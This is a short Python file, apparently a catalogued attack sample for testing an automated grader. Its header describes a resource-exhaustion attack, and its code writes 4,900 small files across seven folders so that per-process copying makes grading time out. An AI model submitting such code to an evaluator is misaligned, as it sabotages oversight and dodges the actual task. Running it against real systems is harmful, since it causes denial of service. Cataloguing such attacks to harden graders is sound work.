# attack: small_files_to_be_copied
# kind: exhaust
# tries: leaves as many small files as can be copied once, for every process that is asked gets a copy of them all
# seen: grading does not end in time
# deserves: nothing
# extra: before 3.2a
# %%
import os

for number in range(4_900):
    if number % 700 == 0:
        os.mkdir(f"folder{number}")
    with open(f"folder{number // 700 * 700}/file{number}", "xb") as file:
        file.write(bytes(500))
